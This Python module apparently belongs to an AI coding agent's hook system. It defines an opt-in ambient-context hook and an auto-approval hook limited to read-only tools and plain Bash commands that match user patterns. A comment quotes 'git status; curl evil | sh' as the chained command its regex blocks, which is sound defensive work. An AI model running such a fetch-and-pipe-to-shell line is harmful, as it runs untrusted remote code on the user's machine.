"""Two built-in hooks a user turns on in their own settings, never a project: per-turn ambient context and
auto-approval of what the user chose to allow without asking.

Both are off unless the user's Orion settings say otherwise (`"builtin": {"<name>": {"enabled": true, ...}}` in
`~/.config/orion/settings.json`; see hooks/sources.py `read_builtin_options`: a project's `builtin` section is
ignored). A guard denies or asks and never approves: `auto-approve` is not a guard, it is the user's own standing
answer to permission requests they listed, and it answers nothing else.
"""

from __future__ import annotations

import fnmatch
import os
import re
from datetime import datetime
from pathlib import Path
from typing import Any

from hooks.builtin.common import BuiltinEnv, Options, context
from hooks.types import HookContext, HookOutput

# The session.state key where the frontend's editor state lands (`session/context`): open files, the active one.
CLIENT_CONTEXT = "client_context"
MAX_OPEN_FILES = 20

# Tools that read and change nothing; approved only for paths inside the project.
READ_ONLY_TOOLS = frozenset({"Read", "Glob", "Grep", "LS", "NotebookRead"})
# A Bash command auto-approval may consider: plain words only. Quotes, expansions, globs, operators, redirections
# and newlines all go to the user, so `git status; curl evil | sh` never matches a `git status*` pattern.
_PLAIN_COMMAND = re.compile(r"[A-Za-z0-9_\-./=,:@%+ ]+")


# --------------------------------------------------------------------------- ambient-context


def _git_branch(project: Path) -> str | None:
    """The checked-out branch from .git/HEAD, without running git (a project's git config can run programs)."""
    head = project / ".git" / "HEAD"
    try:
        text = head.read_text(encoding="utf-8", errors="replace").strip()
    except OSError:
        return None
    if text.startswith("ref: refs/heads/"):
        return text[len("ref: refs/heads/"):][:200]
    return f"detached at {text[:12]}" if text else None


def make_ambient_context(opts: Options, env: BuiltinEnv) -> Any:
    items = set(opts.get("items") or ("datetime", "project", "git_branch", "open_files"))

    async def ambient_context(payload: dict[str, Any], ctx: HookContext) -> HookOutput | None:
        session = ctx.session
        project = Path(session.project_dir)
        lines = []
        if "datetime" in items:
            lines.append(f"Current date and time: {datetime.now().astimezone().isoformat(timespec='minutes')}")
        if "project" in items:
            lines.append(f"Active project: {project.name} ({project})")
        if "git_branch" in items and (branch := _git_branch(project)):
            lines.append(f"Git branch: {branch}")
        client = session.state.get(CLIENT_CONTEXT) or {}
        if "open_files" in items:
            active = client.get("activeFile")
            if isinstance(active, str) and active:
                lines.append(f"Active file in the editor: {active}")
            files = [f for f in client.get("openFiles") or [] if isinstance(f, str)][:MAX_OPEN_FILES]
            if files:
                lines.append("Open in the editor: " + ", ".join(files))
        if not lines:
            return None
        return context("UserPromptSubmit", "<ambient-context>\n" + "\n".join(lines) + "\n</ambient-context>")

    return ambient_context


# --------------------------------------------------------------------------- auto-approve


def _inside(path: str, project: Path) -> bool:
    candidate = Path(path)
    if not candidate.is_absolute():
        candidate = project / candidate
    real = Path(os.path.realpath(candidate))
    return real == project or real.is_relative_to(project)


def make_auto_approve(opts: Options, env: BuiltinEnv) -> Any:
    read_only = bool(opts.get("readOnlyTools", False))
    patterns = [p for p in opts.get("bashAllow") or [] if isinstance(p, str) and p.strip()]

    def approvable(tool: str, tool_input: dict[str, Any], project: Path) -> str | None:
        """Why this call is one the user chose to allow, or None (then the user is asked, as without the hook)."""
        if read_only and tool in READ_ONLY_TOOLS:
            paths = [tool_input[k] for k in ("file_path", "path", "notebook_path") if isinstance(tool_input.get(k), str)]
            if all(_inside(p, project) for p in paths):
                return f"{tool} inside the project (read-only tools, the user's auto-approve setting)"
            return None
        if tool == "Bash" and patterns:
            from hooks.builtin.env_isolation import display_command

            command = display_command(str(tool_input.get("command") or "")).strip()
            if not command or not _PLAIN_COMMAND.fullmatch(command):
                return None
            for pattern in patterns:
                if fnmatch.fnmatchcase(command, pattern):
                    return f"Bash command matches {pattern!r} (the user's auto-approve setting)"
        return None

    async def auto_approve(payload: dict[str, Any], ctx: HookContext) -> HookOutput | None:
        tool = str(payload.get("tool_name") or "")
        tool_input = payload.get("tool_input") if isinstance(payload.get("tool_input"), dict) else {}
        project = Path(os.path.realpath(ctx.session.project_dir))
        why = approvable(tool, tool_input, project)
        if why is None:
            return None
        ctx.log.info("auto-approved %s: %s", tool, why)
        return HookOutput.model_validate({"hookSpecificOutput": {
            "hookEventName": "PermissionRequest", "decision": {"behavior": "allow"}}})

    return auto_approve
